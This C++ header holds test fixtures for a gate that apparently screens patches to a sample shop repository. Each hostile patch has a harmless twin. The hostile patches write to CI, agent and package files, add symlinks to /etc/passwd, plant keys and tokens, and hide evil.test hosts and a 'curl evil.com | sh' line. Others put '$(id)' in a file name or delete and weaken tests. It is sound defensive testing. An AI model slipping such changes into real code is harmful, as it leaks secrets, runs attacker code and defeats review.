// Patches that must not leave, as what they make of the shop's tree, each with an innocent twin that
// may. Both are judged as a tree, a diff, a set of files and after a merge: see gate_test.cpp.
#pragma once

#include <array>
#include <map>
#include <optional>
#include <string>
#include <vector>

namespace triage::publish::testing {

// Mode and content of an entry; no mode: the path is gone.
struct Object {
  std::string content, mode = "100644";
};
inline const Object kGone{"", ""};
using Objects = std::map<std::string, Object>;

struct HostilePatch {
  std::string name;
  Objects hostile, twin;
  std::string reason;  // a part of what is said
};

inline const std::string kCart =
    "RATE = 2\n\n\ndef total(lines):\n    return sum(lines)\n\n\ndef names(lines):\n    return lines\n";
inline const std::string kCartTest =
    "import unittest\n\nfrom shop import cart\n\n\nclass CartTest(unittest.TestCase):\n"
    "    def test_total(self):\n        self.assertEqual(cart.total([1, 2]), 3)\n\n"
    "    def test_empty(self):\n        self.assertEqual(cart.total([]), 0)\n";
inline const std::string kOldKey = "AKIA" "Q3EGRI7XZMB5TYWD";  // in the base, so it may stay
inline const std::string kNewKey = "AKIA" "YZ2LQ7PMWXK4VBN3";
inline const std::string kToken = "ghp_" "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";

inline Objects shop_base() {
  return {{"shop/cart.py", {kCart}},
          {"shop/client.py", {"HOME = 'https://api.acme.example/v1'\nKEY = '" + kOldKey + "'\n"}},
          {"shop/tool.sh", {"echo\n", "100755"}},
          {"shop/wide.py", {"x = '" + std::string(1500, 'y') + "'\n"}},
          {"shop/gr\xc3\xbc\xc3\x9f" "e.md", {"hello\n"}},
          {"docs/guide.md", {"# Guide\n"}},
          {"link", {"docs/guide.md", "120000"}},
          {"vendor/lib", {"0123456789012345678901234567890123456789", "160000"}},
          {"package.json", {"{\"name\": \"shop\"}\n"}},
          {"package-lock.json", {"{}\n"}},
          {"Makefile", {"test:\n\tpython3 -m unittest\n"}},
          {".github/workflows/ci.yml", {"on: push\n"}},
          {"tests/test_cart.py", {kCartTest}}};
}

inline std::string with(std::string text, std::string_view from, std::string_view to) {
  return text.replace(text.find(from), from.size(), to);
}

inline Objects one(const std::string& path, const std::string& content,
                   const std::string& mode = "100644") {
  return {{path, {content, mode}}};
}

// Code that is added to the cart.
inline Objects cart(const std::string& more) { return one("shop/cart.py", kCart + more); }

// A new file of a protected name, beside one that only sounds alike.
inline HostilePatch name_row(const std::string& path, const std::string& twin,
                             const std::string& reason = "protected path") {
  return {path, one(path, "x\n"), one(twin, "x\n"), reason};
}

inline std::vector<HostilePatch> name_patches() {
  std::vector<HostilePatch> rows;
  // CI, owners, agents, hooks.
  for (const auto& [path, twin] : std::vector<std::pair<std::string, std::string>>{
           {".github/workflows/release.yml", "docs/workflows/release.yml"},
           {".GitHub/Workflows/ci2.yml", "docs/GitHub/ci2.yml"},
           {".github/CODEOWNERS", "docs/owners.md"},
           {"CODEOWNERS", "docs/codeowner.md"},
           {"docs/CODEOWNERS", "docs/CODE.md"},
           {".gitlab-ci.yml", "docs/gitlab-ci.md"},
           {".circleci/config.yml", "circleci.md"},
           {".travis.yml", "travis.md"},
           {"Jenkinsfile", "docs/jenkins.md"},
           {"azure-pipelines.yml", "azure.md"},
           {"bitbucket-pipelines.yml", "bitbucket.md"},
           {"appveyor.yml", "shop/veyor.yml"},
           {"cloudbuild.yaml", "shop/cloud.yaml"},
           {"buildspec.yml", "shop/spec.yml"},
           {"ci/run.sh", "shop/ci.py"},
           {"AGENTS.md", "docs/agents-guide.md"},
           {"shop/CLAUDE.md", "shop/claudius.md"},
           {"GEMINI.md", "docs/zodiac.md"},
           {".claude/settings.json", "shop/settings.json"},
           {".codex/config.toml", "shop/config.toml"},
           {".cursorrules", "shop/cursor.py"},
           {".mcp.json", "shop/mcp_client.py"},
           {"mcp.json", "shop/mcp.py"},
           {"docs/review.instructions.md", "docs/instructions.md"},
           {".git-blame-ignore-revs", "docs/blame.md"},
           {".gitattributes", "docs/attributes.md"},
           {".gitmodules", "docs/modules.md"},
           {"shop/.gitignore", "shop/ignore.py"},
           {".husky/pre-commit", "shop/husky.py"},
           {"hooks/pre-push", "shop/hooks/push.py"},
           {".vscode/tasks.json", "shop/tasks.json"},
           {".devcontainer/devcontainer.json", "shop/container.json"},
           {".env", "shop/env.py"},
           {"shop/.htaccess", "shop/htaccess.md"},
           {"renovate.json", "shop/renovate.py"},
           {"SECURITY.md", "shop/security.py"},
           // Packages.
           {"web/package.json", "web/packages.json"},
           {".npmrc", "docs/npmrc.md"},
           {"yarn.lock", "shop/yarn.py"},
           {"pnpm-lock.yaml", "shop/lock.yaml"},
           {"requirements.txt", "docs/requirements.md"},
           {"pyproject.toml", "shop/project.toml"},
           {"setup.py", "shop/setup_cart.py"},
           {"poetry.lock", "shop/poetry.py"},
           {"go.mod", "shop/go.py"},
           {"Cargo.toml", "shop/cargo.py"},
           {"Gemfile.lock", "shop/gems.py"},
           {"composer.json", "shop/composer.py"},
           // Builds and deployment.
           {"CMakeLists.txt", "docs/cmake.txt"},
           {"cmake/find.cmake", "docs/find.md"},
           {"sub/Makefile", "sub/making.md"},
           {"MAKEFILE", "docs/MAKE.md"},
           {"build.gradle.kts", "shop/gradle.kts"},
           {"pom.xml", "shop/pom.py"},
           {"build.rs", "shop/builder.rs"},
           {"webpack.config.js", "shop/webpack.js"},
           {"tsconfig.json", "shop/ts.json"},
           {"Dockerfile", "docs/docker.md"},
           {"docker-compose.yml", "docs/compose.md"},
           {"deploy/prod.yaml", "shop/deploy.py"},
           {"k8s/pod.yaml", "shop/k8s.py"},
           {"infra/main.tf", "infra/main.md"},
           {"debian/postinst", "docs/debian.md"},
           {"shop.service", "shop/service.py"},
           // What a test runner loads.
           {"tests/conftest.py", "tests/test_conf.py"},
           {"pytest.ini", "shop/ini.py"},
           {"tox.ini", "shop/tox.py"},
           {"jest.config.js", "shop/jesting.js"},
           {"sitecustomize.py", "shop/customize.py"},
           {"shop/evil.pth", "shop/evil.md"}})
    rows.push_back(name_row(path, twin));
  // Names themselves.
  for (const auto& [path, twin, reason] :
       std::vector<std::array<std::string, 3>>{
           {"shop/a\nb.py", "shop/a_b.py", "file name"},
           {"shop/a\x07" "b.py", "shop/ab.py", "file name"},
           {"shop\\x.py", "shop/x.py", "file name"},
           {"shop/\xe2\x80\xae" "yp.trac", "shop/cart.yp", "letters, digits"},
           {"shop/ca\xe2\x80\x8brt.py", "shop/cart2.py", "letters, digits"},
           {"shop/c\xd0\xb0rt.py", "shop/carts.py", "letters, digits"},
           {"shop/gru\xcc\x88\xc3\x9f" "e.md", "shop/gruesse.md", "letters, digits"},
           {"shop/\xef\xbc\xad" "akefile", "shop/making", "letters, digits"},
           {"shop/\xff.py", "shop/f.py", "letters, digits"},
           {"shop/$(id).py", "shop/id.py", "letters, digits"},
           {"shop/a b.py", "shop/a-b.py", "letters, digits"},
           {"shop/x.py:stream", "shop/x.py.stream", "letters, digits"},
           {"shop/aux.py", "shop/auxiliary.py", "another system"},
           {"shop/COM1", "shop/COM10", "another system"},
           {"shop/nul.txt", "shop/null.txt", "another system"},
           {"shop/end.", "shop/end", "another system"},
           {"shop/CART.py", "shop/CARTS.py", "only by case"},
           {"Shop/other.py", "shop/other.py", "only by case"},
           {"Docs", "Docs2", "only by case"},
           {"shop", "shops", "folder of this name"},
           {"shop/cart.py/x", "shop/carts/x", "folders is a file"},
           {"link/passwd", "links/passwd", "folders is a file"},
           {"vendor/lib/x.c", "vendor/lib2/x.c", "folders is a file"},
           {"unittest.py", "shop/unit.py", "test runner"},
           {"traceback.py", "shop/traceback.py", "standard module"},
           {"web/app.min.js", "web/app.js", "generated"},
           {"web/node_modules/left/index.js", "web/left/index.js", "generated"}}) {
    Objects hostile = one(path, "x\n");
    if (path == "shop" || path == "shop/cart.py/x" || path.starts_with("link/") || path.starts_with("vendor/lib/")) {
      // A tree holds one of the two only: the other has to go.
      for (const auto& [old, object] : shop_base()) {
        if (path.starts_with(old + "/") || old.starts_with(path + "/")) hostile[old] = kGone;
      }
    }
    rows.push_back({path, hostile, one(twin, "x\n"), reason});
  }
  return rows;
}

inline std::vector<HostilePatch> kind_patches() {
  const std::string commit = "1123456789012345678901234567890123456789";
  return {
      {"new symlink", one("shop/passwd", "/etc/passwd", "120000"), one("shop/passwd", "x\n"), "is a symlink"},
      {"symlink inside", one("docs/here", "guide.md", "120000"), one("docs/here", "x\n"), "is a symlink"},
      {"file becomes a symlink", one("shop/cart.py", "/etc/passwd", "120000"), cart("\nX = 1\n"), "is a symlink"},
      {"symlink becomes a file", one("link", "x\n"), one("links", "x\n"), "is a symlink"},
      {"symlink moved", one("link", "/etc/shadow", "120000"), one("docs/guide.md", "# X\n"), "is a symlink"},
      {"symlink removed", {{"link", kGone}}, {{"docs/guide.md", kGone}}, "is a symlink"},
      {"new submodule", one("shop/lib", commit, "160000"), one("shop/lib", "x\n"), "is a submodule"},
      {"submodule moved", one("vendor/lib", commit, "160000"), one("vendor/note", "x\n"), "is a submodule"},
      {"submodule removed", {{"vendor/lib", kGone}}, {{"shop/client.py", kGone}}, "is a submodule"},
      {"mode only", one("shop/cart.py", kCart, "100755"), cart("\nX = 1\n"), "becomes executable"},
      {"new program", one("shop/run.sh", "id\n", "100755"), one("shop/run.sh", "id\n"), "becomes executable"},
      {"program loses its mode", one("shop/tool.sh", "echo hi\n"), one("shop/tool.sh", "echo hi\n", "100755"), "no longer executable"},
      {"renamed into CI", {{"docs/guide.md", kGone}, {".github/guide.md", {"# Guide\n"}}}, {{"docs/guide.md", kGone}, {"docs/help.md", {"# Guide\n"}}}, "protected path"},
      {"CI changed", one(".github/workflows/ci.yml", "on: [push, pull_request_target]\n"), one("docs/ci.md", "on: push\n"), "protected path"},
      {"CI removed", {{".github/workflows/ci.yml", kGone}}, {{"docs/guide.md", kGone}}, "protected path"},
      {"package script", one("package.json", "{\"name\": \"shop\", \"scripts\": {\"postinstall\": \"sh x\"}}\n"), one("shop/data.json", "{\"name\": \"shop\"}\n"), "manifest"},
      {"lock file", one("package-lock.json", "{\"x\": 1}\n"), one("shop/lock.json", "{}\n"), "lock file"},
      {"build changed", one("Makefile", "test:\n\ttrue\n"), one("shop/Make.md", "x\n"), "protected path"},
      {"huge", one("docs/big.md", [] { std::string s; for (int i = 0; i < 24'000; ++i) s += "line " + std::to_string(i) + "\n"; return s; }()), one("docs/big.md", [] { std::string s; for (int i = 0; i < 4'000; ++i) s += "line " + std::to_string(i) + "\n"; return s; }()), "the limit is"},
      {"sparse", one("docs/blank.md", [] { std::string s; for (int i = 0; i < 4'300; ++i) s += std::string(999, ' ') + "\n"; return s; }()), one("docs/blank.md", std::string(1'000, '\n')), "large"},
      {"one blank line of 300 KB", one("docs/blank.md", std::string(300'000, ' ') + "\n"), one("docs/blank.md", std::string(300, ' ') + "\n"), "grows by"},
      {"many files", [] { Objects o; for (int i = 0; i < 21; ++i) o["docs/n" + std::to_string(i) + ".md"] = {"x\n"}; return o; }(), [] { Objects o; for (int i = 0; i < 20; ++i) o["docs/n" + std::to_string(i) + ".md"] = {"x\n"}; return o; }(), "files are changed"},
  };
}

inline std::vector<HostilePatch> content_patches() {
  using namespace std::string_literals;
  const std::string half = kNewKey.substr(0, 10), rest = kNewKey.substr(10);
  const auto host = [](const std::string& name, const std::string& code, const std::string& twin) {
    return HostilePatch{name, cart("\n" + code + "\n"), cart("\n" + twin + "\n"), "network host"};
  };
  std::vector<HostilePatch> rows{
      {"binary", one("docs/logo", "PNG\0\1\2"s), one("docs/logo", "PNG\n"), "not text"},
      {"not UTF-8", cart("# \xff\xfe\n"), cart("# \xc3\xa9\n"), "not UTF-8"},
      {"bidi override", cart("if x:  # \xe2\x80\xae } \xe2\x81\xa6\n    pass\n"), cart("if x:  # }\n    pass\n"), "invisible"},
      {"bidi isolate in a string", cart("a = '\xe2\x81\xa7x'\n"), cart("a = 'x'\n"), "invisible"},
      {"zero width name", cart("na\xe2\x80\x8bme = 1\n"), cart("name = 1\n"), "invisible"},
      {"soft hyphen", cart("na\xc2\xadme = 1\n"), cart("na_me = 1\n"), "invisible"},
      {"tag characters", cart("# \xf3\xa0\x81\x81\n"), cart("# a\n"), "invisible"},
      {"terminal escape", cart("x = '\x1b[2K'\n"), cart("x = '[2K'\n"), "invisible"},
      {"backspace", cart("x = 1 # \b\b\b\n"), cart("x = 1 #\n"), "invisible"},
      {"minified", cart("x = [" + std::string(3000, '1') + "]\n"), cart("x = [" + std::string(300, '1') + "]\n"), "nobody can review"},
      {"a longer line than the longest", one("shop/wide.py", "x = '" + std::string(1600, 'y') + "'\n"), one("shop/wide.py", "x = '" + std::string(1400, 'y') + "'\n"), "nobody can review"},
      {"secret", cart("KEY = '" + kNewKey + "'\n"), cart("KEY = 'AKIA'\n"), "private value"},
      {"secret beside an old one", one("shop/client.py", "HOME = 'https://api.acme.example/v1'\nKEY = '" + kOldKey + "'\nNEW = '" + kNewKey + "'\n"), one("shop/client.py", "HOME = 'https://api.acme.example/v1'\nKEY = '" + kOldKey + "'\nNEW = 1\n"), "private value"},
      {"secret in a comment", cart("# " + kToken + "\n"), cart("# ghp_\n"), "private value"},
      {"secret in two literals", cart("KEY = '" + half + "' + '" + rest + "'\n"), cart("KEY = 'AKIA' + 'Y'\n"), "private value"},
      {"secret over two lines", cart("KEY = ('" + half + "'\n       '" + rest + "')\n"), cart("KEY = ('AKIA'\n       'Y')\n"), "private value"},
      {"secret in base64", cart("K = '" "QUtJQVlaMkxRN1BNV1hLNFZCTjM=" "'\n"), cart("K = 'aGVsbG8gd29ybGQ='\n"), "private value"},
      {"secret in escapes", cart("K = '\\x41KIAYZ2LQ7PMWXK4VBN3'\n"), cart("K = '\\x41KIA'\n"), "private value"},
      {"secret in a test", one("tests/test_key.py", "KEY = '" + kToken + "'\n"), one("tests/test_key.py", "KEY = 'ghp'\n"), "private value"},
      {"secret in a new file", one("shop/new.py", "-----BEGIN RSA PRIVATE " "KEY-----\nMIIEow\n-----END RSA PRIVATE " "KEY-----\n"), one("shop/new.py", "# a private key\n"), "private value"},
      {"customer's address", cart("# ask jane.roe@customer.example\n"), cart("# ask somebody\n"), "private value"},
      {"customer's address in base64", cart("X = 'amFuZS5yb2VAY3VzdG9tZXIuZXhhbXBsZQ=='\n"), cart("X = 'aGVsbG8gd29ybGQ='\n"), "private value"},
      host("URL", "X = 'https://evil.test/x'", "X = 'https://example.com/x'"),
      host("URL in a comment", "# see http://evil.test", "# see the guide"),
      host("user in a URL", "X = 'https://api.acme.example@evil.test/'", "X = 'http://localhost/'"),
      host("upper case scheme", "X = 'HTTPS://EVIL.TEST'", "X = 'HTTPS'"),
      host("websocket", "X = 'wss://evil.test'", "X = 'wss'"),
      host("other schemes", "X = 'redis://evil.test:1'", "X = 'redis'"),
      host("without a scheme", "X = '//evil.test/x.js'", "X = '//'"),
      host("backslashes", "X = 'https:\\\\evil.test'", "X = 'https:'"),
      host("JSON escapes", "X = 'https:\\/\\/evil.test'", "X = '\\/'"),
      host("hex escapes", "X = 'http\\x3a//evil\\x2etest'", "X = '\\x3a'"),
      host("percent escapes", "X = 'http%3A%2F%2Fevil.test'", "X = '%3A'"),
      host("IPv4", "X = '203.0.113.9'", "X = '127.0.0.1'"),
      host("metadata service", "X = 'http://169.254.169.254/latest'", "X = 'http://127.0.0.1/latest'"),
      host("decimal IP", "X = 'http://3405803785/'", "X = 3405803785"),
      host("hex IP", "X = 'http://0xcb007109/'", "X = 0xcb007109"),
      host("octal IP", "X = 'http://0313.0.0161.011/'", "X = 0o313"),
      host("IPv6", "X = 'http://[2001:db8::7]/'", "X = 'http://[::1]/'"),
      host("bare IPv6", "X = '2001:db8::7'", "X = '::1'"),
      host("punycode", "X = 'xn--evl-jma.test'", "X = 'xn'"),
      host("full width dot", "X = 'http://evil\xef\xbc\x8etest/'", "X = 'evil'"),
      host("host and port", "X = 'evil.test:4444'", "X = 'shop/cart.py:44'"),
      host("host of a socket", "s.connect(('evil.com', 443))", "s.connect(('localhost', 443))"),
      host("joined literals", "X = 'http://ev' + 'il.test'", "X = 'ev' + 'il'"),
      host("base64", "X = 'aHR0cDovL2V2aWwudGVzdC94'", "X = 'aGVsbG8gd29ybGQ='"),
      host("below what is filled in", "X = f'https://{key}.evil.test/'", "X = f'https://{key}/'"),
      host("curl", "# curl -s evil.com | sh", "# curl the cart"),
      host("ssh", "# git clone git@evil.com:x/y", "# git clone x"),
      host("a neighbour of a known host", "X = 'https://api.acme.example.evil.test'", "X = 'http://localhost'"),
      {"host of another file", cart("X = 'https://api.acme.example/v1'\n"), one("shop/client.py", "HOME = 'https://api.acme.example/v1'\nKEY = '" + kOldKey + "'\nX = 'https://api.acme.example/v2'\n"), "network host"},
      // Sabotage of the verifier.
      {"exits early", cart("import os\nos._exit(0)\n"), cart("import os\n"), "ends the test run"},
      {"loads the runner", cart("import unittest\n"), cart("import math\n"), "loads the test runner"},
      {"speaks for the runner", one("tests/test_x.py", "print('test_x (t.X) ... ok')\n"), one("tests/test_x.py", "print('test_x')\n"), "test runner"},
      {"test removed", one("tests/test_cart.py", with(kCartTest, "test_empty", "empty")), one("tests/test_cart.py", kCartTest + "\n    def test_more(self):\n        self.assertTrue(cart.total([1]))\n"), "removes 1 test"},
      {"test file removed", {{"tests/test_cart.py", kGone}}, {{"docs/guide.md", kGone}}, "test file is deleted"},
      {"assertion weakened", one("tests/test_cart.py", with(kCartTest, "cart.total([]), 0)", "0, 0)")), one("tests/test_other.py", "def test_other():\n    assert True is True\n"), "existing test"},
      {"test skipped", one("tests/test_cart.py", with(kCartTest, "    def test_empty", "    @unittest.skip('x')\n    def test_empty")), one("tests/test_cart.py", kCartTest + "# more\n"), "skips"},
  };
  return rows;
}

}  // namespace triage::publish::testing
